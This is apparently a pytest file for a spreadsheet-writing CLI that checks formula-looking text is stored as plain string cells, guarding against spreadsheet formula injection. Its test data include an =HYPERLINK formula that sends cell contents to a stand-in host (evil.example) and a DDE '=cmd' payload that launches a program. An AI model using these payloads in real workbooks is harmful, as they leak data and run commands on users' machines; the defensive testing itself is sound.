"""Issue 22, finding 3: every text cell of every workbook xjj writes is a string cell.

A name, a problem or a note that starts like a formula (= + - @, after a tab or a carriage
return too) is written as the text it is — an inline string in the package, never an ``<f>``
element, never with a ``'`` put in front — in the rank, colors, accountability, warnings and
problems workbooks, the notices register, and every sheet of the fill-in forms (the very
hidden ``_xjj`` sheet too); a problem typed as ``=HYPERLINK(…)`` in a form comes back as text
in the next month's form; LibreOffice shows the text, not a computed value.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from conftest import copy_sample
from realapps import soffice_convert
from xjj_cli.cli import app
from xjj_cli.forms import layout
from xjj_cli.forms.write import FormBook, Office, Value, workbook_bytes
from xjj_cli.messages.reports import REPORT_HEADINGS
from xjj_cli.render.tabular import Table, columns
from xjj_cli.render.workbook import tables_xlsx

UNIT = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'
"""区住建局 (qzj), which gets a notice in 2026-10 and a responsible unit of problems."""
TOWN = "+古槐街道"
PROJECT = "-1+110千伏喻屯输变电工程"
"""GRID-2026-003 of 区供电公司 (gdgs)."""
PROBLEM = "@SUM(1,1)建设用地指标未落实"
"""WT-2026-004, open, holding up GRID-2026-003."""
HOSTILE = (UNIT, TOWN, PROJECT, PROBLEM)
OFFICE_FORM = "2026-11-区供电公司-项目进度.xlsx"

CONTROL = (
    "=1+1",
    "=",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    " =1+1",
    "#N/A",
    "#DIV/0!",
    '=cmd|" /C calc"!A0',
)
"""Texts a spreadsheet may read as a formula or an error value."""


def run(data: Path, *args: str) -> str:
    result = CliRunner().invoke(app, ["--data", str(data), *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def _replace(path: Path, old: str, new: str) -> None:
    text = path.read_text("utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), "utf-8")


def hostile_repository(root: Path) -> Path:
    """A copy of the sample whose names and a problem start like formulas."""
    data = copy_sample(root)
    quoted = UNIT.replace('"', '""')
    _replace(data / "units" / "units.csv", "qzj,区住建局,", f'qzj,"{quoted}",')
    _replace(data / "towns" / "towns.csv", "gh,古槐街道,", f"gh,{TOWN},")
    _replace(
        data / "projects" / "grid" / "GRID-2026-003.yaml",
        "name: 110千伏喻屯输变电工程",
        f'name: "{PROJECT}"',
    )
    _replace(data / "problems" / "2026.yaml", "text: 建设用地指标未落实", f'text: "{PROBLEM}"')
    return data


def formulas(path: Path) -> list[str]:
    """Every ``<f>`` element (a cell's formula) in the package's worksheets, as
    ``member: formula``."""
    found = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.endswith(".xml"):
                xml = package.read(name).decode("utf-8")
                found += [f"{name}: {m}" for m in re.findall(r"<(?:\w+:)?f[ >/][^<]*", xml)]
    return found


def texts(path: Path) -> dict[str, str]:
    """Every cell holding a str, ``sheet!cell`` → text, read back with openpyxl."""
    book = load_workbook(path)
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[f"{sheet.title}!{cell.coordinate}"] = cell.value
                    assert cell.data_type == "s", (path.name, sheet.title, cell.coordinate)
    return found


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path]]:
    """Every workbook xjj writes, made from the hostile repository."""
    root = tmp_path_factory.mktemp("hostile")
    data = hostile_repository(root)
    out = root / "out"
    books = {}
    for command, args in {
        "rank": ("--month", "2026-10"),
        "colors": ("--month", "2026-10"),
        "accountability": ("--month", "2026-10"),
        "warnings": ("--month", "2026-10"),
        "problems": ("--month", "2026-10"),
    }.items():
        books[command] = out / f"{command}.xlsx"
        run(data, command, *args, "--format", "xlsx", "--out", str(books[command]))
    run(
        data, "notices", "--month", "2026-10", "--date", "2026-11-05", "--out", str(out / "notices")
    )
    (books["register"],) = (out / "notices").glob("*.xlsx")
    run(data, "forms", "--month", "2026-11", "--out", str(out / "forms"))
    for path in sorted((out / "forms").glob("*.xlsx")):
        books[f"form {path.name}"] = path
    yield books


def test_no_workbook_xjj_writes_has_a_formula_from_the_data(written: dict[str, Path]) -> None:
    assert len(written) > 10
    for name, path in written.items():
        assert formulas(path) == [], name


def test_the_hostile_texts_read_back_exactly_as_text(written: dict[str, Path]) -> None:
    expected = {
        "rank": {TOWN},
        "colors": {PROJECT},
        "accountability": {UNIT},
        "problems": {UNIT, PROBLEM},
        "register": {UNIT},
        f"form {OFFICE_FORM}": {UNIT, PROJECT, PROBLEM},
        "form 2026-11-+古槐街道-月度数据.xlsx": {TOWN},
    }
    for name, path in written.items():
        cells = texts(path)
        assert not [t for t in cells.values() if t.startswith("'") and t[1:] in HOSTILE], name
        for text in expected.get(name, set()):
            assert text in cells.values(), (name, text)


def test_the_register_names_the_unit_in_a_string_cell(written: dict[str, Path]) -> None:
    sheet = load_workbook(written["register"]).active
    assert sheet is not None
    names = [c for c in sheet["C"] if c.value == UNIT]
    assert names and all(c.data_type == "s" for c in names)
    reasons = [c for c in sheet["E"] if isinstance(c.value, str) and UNIT in c.value]
    assert reasons


def test_the_owner_forms_hidden_list_of_units_is_text(written: dict[str, Path]) -> None:
    meta = load_workbook(written[f"form {OFFICE_FORM}"])[layout.META_SHEET]
    listed = [c for c in meta[layout.LIST_COLUMN] if c.value == UNIT]
    assert listed and all(c.data_type == "s" for c in listed)


def _table_book(text: str) -> bytes:
    table = Table("排名", columns(REPORT_HEADINGS["ranking"], "name"), sheet=text)
    table.add({"name": (text, text)})
    table.add({"name": ("x", text)})
    return tables_xlsx([table], day=dt.date(2026, 10, 31))


def _form_book(text: str) -> bytes:
    row: dict[str, Value] = {c.key: text for c in layout.TOWN.columns}
    row["target"], row["last"], row["completed"] = 10, 1, None
    book = FormBook(layout.TOWN, "2026-11", "gh", text, [row])
    return workbook_bytes(book, Office(text, (text, text)))


@pytest.mark.parametrize("write", [_table_book, _form_book])
@pytest.mark.parametrize("text", CONTROL)
def test_a_text_cell_is_never_a_formula_or_an_error(
    text: str, write: Callable[[str], bytes], tmp_path: Path
) -> None:
    path = tmp_path / "t.xlsx"
    path.write_bytes(write(text))
    assert formulas(path) == []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                xml = package.read(name).decode("utf-8")
                assert 't="e"' not in xml and 't="str"' not in xml, name
    found = texts(path)
    assert text in found.values()
    assert "'" + text not in found.values()


def test_a_problem_typed_as_a_formula_comes_back_as_text_next_month(
    sample_copy: Path, tmp_path: Path
) -> None:
    run(sample_copy, "forms", "--month", "2026-11", "--out", str(tmp_path / "forms"))
    path = tmp_path / "forms" / OFFICE_FORM
    book = load_workbook(path)
    sheet = book[layout.NEW_PROBLEMS.sheet]
    first = layout.FIRST_ROW
    sheet[f"B{first}"] = book[layout.OWNER.sheet][f"B{first}"].value
    sheet[f"C{first}"] = UNIT  # typed after a ' in Excel: a text
    sheet[f"C{first}"].data_type = "s"
    sheet[f"D{first}"] = "区住建局"
    sheet[f"E{first}"] = dt.date(2026, 12, 20)
    book.save(path)
    run(sample_copy, "import", str(path))
    run(sample_copy, "forms", "--month", "2026-12", "--out", str(tmp_path / "next"))
    again = tmp_path / "next" / OFFICE_FORM.replace("2026-11", "2026-12")
    assert formulas(again) == []
    opened = load_workbook(again)[layout.OPEN_PROBLEMS.sheet]
    cells = [c for row in opened.iter_rows() for c in row if c.value == UNIT]
    assert cells and all(c.data_type == "s" for c in cells)


def _csv_of_sheets(path: Path, out: Path) -> dict[str, list[list[str]]]:
    """Every sheet of the workbook as LibreOffice exports it to CSV (UTF-8), by file stem."""
    out.mkdir()
    soffice_convert(
        [path], "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", out
    )
    sheets = {}
    for exported in out.glob("*.csv"):
        sheets[exported.stem] = list(csv.reader(io.StringIO(exported.read_text("utf-8"))))
    assert sheets, f"LibreOffice exported nothing of {path.name}"
    return sheets


@pytest.mark.needs("soffice")
def test_libreoffice_shows_the_text_not_a_computed_value(
    written: dict[str, Path], tmp_path: Path
) -> None:
    register = _csv_of_sheets(written["register"], tmp_path / "register")
    cells = [c for rows in register.values() for row in rows for c in row]
    assert UNIT in cells
    assert "点击" not in cells  # what the HYPERLINK would show
    form = _csv_of_sheets(written[f"form {OFFICE_FORM}"], tmp_path / "form")
    cells = [c for rows in form.values() for row in rows for c in row]
    assert PROJECT in cells and PROBLEM in cells
    assert "点击" not in cells
